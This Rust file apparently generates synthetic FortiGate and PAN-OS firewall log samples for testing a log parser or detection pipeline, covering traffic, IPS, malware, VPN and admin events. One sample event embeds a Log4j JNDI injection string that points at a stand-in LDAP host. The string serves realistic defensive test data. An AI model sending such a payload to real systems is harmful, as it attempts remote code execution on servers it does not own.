//! One event in every encoding: lines of every log type, and the stories written anew.

mod fortigate;
mod panos;

use hinomi_generate::catalog::{self, SiteKind};
use hinomi_generate::encode::Encoding;
use hinomi_generate::site::{ADMIN_PORTAL, RESOLVER, WEB, WEB_PUBLIC, ip, outside};
use hinomi_generate::{
    Action, End, Happening, Inspection, Maker, Verdict, Via, admin_login, application, botnet, cc_lookup,
    config_change, credentials, denied, exploit, file_seen, flood, judged, load, lookup, malware, scan,
    submitted, traffic, unscannable, updated, vpn_login, web,
};
use hinomi_model::{EventTime, Vendor};
use serde_json::Value;

use crate::story::{Story, Told};

/// A native line and what it is about.
#[derive(Clone, Debug)]
pub struct Sample {
    /// `fortigate V7_4 3: utm ips`: unique, for reports.
    pub title: String,
    /// Who wrote it.
    pub vendor: Vendor,
    /// The line.
    pub line: String,
}

/// Returns lines of every log type by every release that the makers know, and of those that no maker writes.
pub fn samples() -> Vec<Sample> {
    let mut samples = Vec::new();
    let written = fortigate::units().into_iter().chain(panos::units());
    for (title, vendor, mut maker) in written {
        for (number, happening) in happenings().iter().enumerate() {
            for line in maker.lines(happening) {
                samples.push(Sample { title: format!("{title} {number}"), vendor, line });
            }
        }
    }
    for (number, line) in fortigate::by_hand().into_iter().enumerate() {
        samples.push(Sample {
            title: format!("fortigate by hand {number}"),
            vendor: Vendor::Fortigate,
            line,
        });
    }
    for (number, line) in panos::by_hand().into_iter().enumerate() {
        samples.push(Sample { title: format!("panos by hand {number}"), vendor: Vendor::Panos, line });
    }
    samples
}

/// Everything that the makers can write about, in both outcomes where there are two. Times have milliseconds, as
/// appliances' have; PAN-OS has no more.
fn happenings() -> Vec<Happening> {
    let at = |seconds: i64| EventTime::from_nanos((1_792_458_000 + seconds) * 1_000_000_000 + 250_000_000);
    let (inside, away, server) = (ip(10, 1, 12, 34), outside(0), WEB);
    let host = "cheap-tickets.example";
    vec![
        traffic(at(0), inside, away, 443).user("kobayashi"),
        traffic(at(1), away, server, 443).behind(WEB_PUBLIC).bytes(2_400, 86_000).ended(End::ServerReset),
        traffic(at(2), inside, away, 443).inspected(Inspection::Ips, Action::Blocked),
        traffic(at(3), inside, away, 443).listed("city-blocklist").ended(End::TimedOut),
        traffic(at(4), inside, server, 445).lasted(700),
        denied(at(5), away, server, 3389).behind(WEB_PUBLIC),
        exploit(at(6), away, server, 80, &catalog::LOG4J)
            .behind(WEB_PUBLIC)
            .url("/q?x=${jndi:ldap://a.example/b c}"),
        exploit(at(7), inside, away, 80, &catalog::LOG4J).towards_client().reset().url("/a|b?c=d\\e\"f\""),
        exploit(at(8), away, server, 80, &catalog::LOG4J).blocked(),
        botnet(at(9), inside, away, 443, &catalog::GH0ST),
        botnet(at(10), inside, away, 443, &catalog::GH0ST).blocked(),
        malware(at(11), inside, away, Via::Http, &catalog::TROJAN).user("kobayashi"),
        malware(at(12), away, ip(10, 1, 200, 25), Via::Smtp, &catalog::MALDOC).blocked(),
        malware(at(13), inside, away, Via::Pop3, &catalog::RAT),
        malware(at(14), inside, server, Via::Smb, &catalog::EICAR).reset(),
        submitted(at(15), inside, away, &catalog::RAT),
        judged(at(16), inside, away, &catalog::RAT, Verdict::Malicious),
        judged(at(17), inside, away, &catalog::RAT, Verdict::Suspicious),
        judged(at(18), inside, away, &catalog::RAT, Verdict::Clean),
        unscannable(at(19), inside, away, "請求書.zip"),
        file_seen(at(20), inside, away, "setup.exe"),
        web(at(21), inside, away, host, "/index.html?a=1&b=x|y^z", SiteKind::Malicious).blocked(),
        web(at(22), inside, away, host, "/", SiteKind::Business).user("sato"),
        credentials(at(23), inside, away, "login-office.example").user("kobayashi"),
        cc_lookup(at(24), inside, RESOLVER, "bad.example"),
        cc_lookup(at(25), inside, RESOLVER, "worse.example").blocked(),
        lookup(at(26), inside, RESOLVER, "www.example"),
        application(at(27), inside, away, 9001, &catalog::TOR),
        application(at(28), inside, away, 443, &catalog::REMOTE_TOOL).blocked(),
        scan(at(29), away, server),
        flood(at(30), away, server, 443, 5_000).blocked(),
        vpn_login(at(31), outside(9), "watanabe", true),
        vpn_login(at(32), outside(9), "watanabe", false),
        admin_login(at(33), ip(10, 1, 9, 20), "netadmin", true),
        admin_login(at(34), outside(9), "netadmin", false),
        config_change(at(35), ip(10, 1, 9, 20), "netadmin", "firewall.policy", "12"),
        load(at(36), 12, 61, 10_423),
        updated(at(37)),
        traffic(at(38), ip(10, 1, 0, 53), ADMIN_PORTAL, 22).bytes(5_000, 5_000),
    ]
}

/// Writes a story's lines in another encoding. Lines of types that the encoding has not stay as they are, as on a
/// device that sends those another way.
pub fn reencoded(story: &Story, encoding: Encoding) -> Story {
    let told = story.told.iter().map(|told| Told { line: rewritten(&told.line, encoding), ..told.clone() });
    Story { title: format!("{} as {encoding:?}", story.title), told: told.collect(), ..story.clone() }
}

fn rewritten(line: &str, encoding: Encoding) -> String {
    // A collector's envelope stays; what it holds changes.
    if let Ok(mut envelope) = serde_json::from_str::<Value>(line)
        && let Some(inner) = envelope["message"].as_str().and_then(|inner| encoding.write(inner))
    {
        envelope["message"] = inner.line.into();
        return envelope.to_string();
    }
    encoding.write(line).map_or_else(|| line.to_owned(), |encoded| encoded.line)
}

type Unit = (String, Vendor, Maker);
